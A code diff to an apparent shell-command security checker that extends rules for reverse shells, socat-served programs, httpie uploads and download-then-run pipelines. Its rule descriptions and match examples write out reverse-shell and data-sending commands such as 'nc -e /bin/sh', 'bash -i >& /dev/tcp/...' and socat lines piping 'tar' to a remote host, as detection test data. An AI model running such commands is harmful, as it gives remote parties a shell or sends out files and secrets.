@@ -14,7 +14,7 @@ from ..shell.programs import INTERPRETERS
 from ..shell.unwrap import SHELLS, shell_flags, socat_programs
 from ..trust import url_host
 from .base import rule
-from .creds import _percent_decode, credential_content, decoded_forms, is_secret_var, reads_secrets, sensitive_file
+from .creds import _percent_decode, credential_content, decoded_forms, env_file_name, is_secret_var, reads_secrets, sensitive_file
 from .gates import _NETCATS, _RUNNERS, INTERPRETER_NAMES, THEN_RUN_FETCHERS
 from .vendors import host_serves, secret_services, token_services
 
@@ -363,6 +363,13 @@ def http_transfer(cmd: SimpleCommand) -> Transfer:
                 t.urls.append(url)
                 t.carry_url(w, url)
         i += 1
+    if name in _HTTPIE and cmd.stdin_from and not any(a.value in ("-I", "--ignore-stdin") for a in args):
+        # httpie and xh send what is piped into them as the request body (their "redirected input"), as a POST.
+        t.method = "POST" if t.method == "GET" else t.method
+        if literal_stdin(cmd.stdin_from) is not None:
+            t.inline = True  # `echo '{"a": 1}' | http POST host`: data written in the command, like `http POST host a=1`
+        else:
+            t.stdin = True
     return t
 
 
@@ -951,7 +958,8 @@ def dns_exfil(cmd: SimpleCommand, sc: Scope) -> str | None:
     title="Reverse shells and programs bound to a network socket",
     why=(
         "nc -e /bin/sh, bash -i >& /dev/tcp/..., socat … EXEC:bash hand an interactive shell on this machine to a remote party; "
-        "socat … SYSTEM:prog sends what prog prints to it (an echo of the socket, EXEC:/bin/cat, sends nothing of this machine)."
+        "socat … SYSTEM:prog sends what prog prints to it (an echo of the socket, EXEC:/bin/cat, sends nothing of this machine; "
+        "a listener serving a program that reads no secret, `TCP-LISTEN:… SYSTEM:date`, is `date | socat - TCP-LISTEN:…`)."
     ),
     verdict=HARD_DENY,
     commands=None,
@@ -963,7 +971,13 @@ def dns_exfil(cmd: SimpleCommand, sc: Scope) -> str | None:
         "socat TCP-LISTEN:4444,fork EXEC:'bash -li',pty,stderr",
         "socat TCP:203.0.113.5:4444 SYSTEM:'tar -cf - .'",
     ),
-    no_match=("nc -z localhost 5432", "echo hi > /tmp/tcp.txt", "socat TCP:203.0.113.5:4444 EXEC:/bin/cat", "socat - TCP:localhost:8080"),
+    no_match=(
+        "nc -z localhost 5432",
+        "echo hi > /tmp/tcp.txt",
+        "socat TCP:203.0.113.5:4444 EXEC:/bin/cat",
+        "socat - TCP:localhost:8080",
+        "socat TCP-LISTEN:8080,fork,reuseaddr SYSTEM:date",
+    ),
 )
 def reverse_shell(cmd: SimpleCommand, sc: Scope) -> str | None:
     if not _only_sends(cmd):
@@ -987,12 +1001,17 @@ def reverse_shell(cmd: SimpleCommand, sc: Scope) -> str | None:
     if cmd.name == "socat":
         # A shell or interpreter on the socket reads its program from the other side; another program (`SYSTEM:id`,
         # `EXEC:/bin/cat`) is judged as the command it is, fed by the network (shell/unwrap.py).
+        flows = socat_flows(cmd)
         for how, prog in socat_programs(cmd):
             words = prog.replace("'", " ").replace('"', " ").split()
             first = posixpath.basename(words[0]) if words else ""
             if not first or DYN in prog or first in SHELLS or first in INTERPRETER_NAMES or first in _SOCAT_RUNNERS:
                 return f"socat connects a network socket to {first or 'a program'} ({how}:{prog})"
             if not (first in ("cat", "tac") and all(w.startswith("-") for w in words[1:])):
+                if flows and all(dst.kind == "listen" for src, dst in flows if src.kind == "exec") and not _program_reads_secrets(prog, cmd, sc):
+                    # Served on a listening socket, as `prog | socat - TCP-LISTEN:…` would serve it: no shell for
+                    # whoever connects, and what the program reads (a secret file) is judged as its own command.
+                    continue
                 # Whatever the program prints goes to the other side, as `prog | socat - ADDR` would send it
                 # (net.upload-untrusted); only an echo of the socket itself (EXEC:/bin/cat) sends nothing of this machine.
                 return f"socat sends what {first} prints ({how}:{prog}) to the other side of a network socket"
@@ -1000,6 +1019,23 @@ def reverse_shell(cmd: SimpleCommand, sc: Scope) -> str | None:
 
 
 _SOCKETS = ("/dev/tcp/", "/dev/udp/")
+
+
+def _program_reads_secrets(prog: str, cmd: SimpleCommand, sc: Scope) -> bool:
+    """Whether the command line socat's SYSTEM:/EXEC: runs prints a secret (or cannot be read: taken as one)."""
+    from ..shell.parse import ParseFailure, parse
+
+    try:
+        script = parse(prog, cmd.cwd, sc.ctx.home)
+    except (ParseFailure, RecursionError):
+        return True
+    from .creds import ENV_DUMPERS
+
+    # An environment dumper with any options (`export -p`, `declare -x`) prints the variables, secrets among them;
+    # a line that yields no command to read (a declaration builtin) is taken as one.
+    if not script.commands or posixpath.basename(prog.split()[0] if prog.split() else "") in ENV_DUMPERS:
+        return True
+    return any(c.name in ENV_DUMPERS or reads_secrets(c, sc) or any(env_file_name(e) for e in c.values()) for c in script.commands)
 
 
 def _only_sends(cmd: SimpleCommand) -> bool:
@@ -1545,6 +1581,10 @@ def downloaded_then_run(commands: list[SimpleCommand], sc: Scope) -> str | None:
         if c.name in SHELLS or c.name in INTERPRETER_NAMES or c.name in ("source", "."):
             ops = [v for v in c.values() if not v.startswith("-")]
             candidates.extend(ops[:1])
+            if not ops:
+                from ..shell.unwrap import cat_files
+
+                candidates.extend(w.value for w in cat_files(c.stdin_from))  # cat payload.sh | bash runs payload.sh
         for cand in candidates:
             p = sc.path(cand, c)
             if p in fetched:
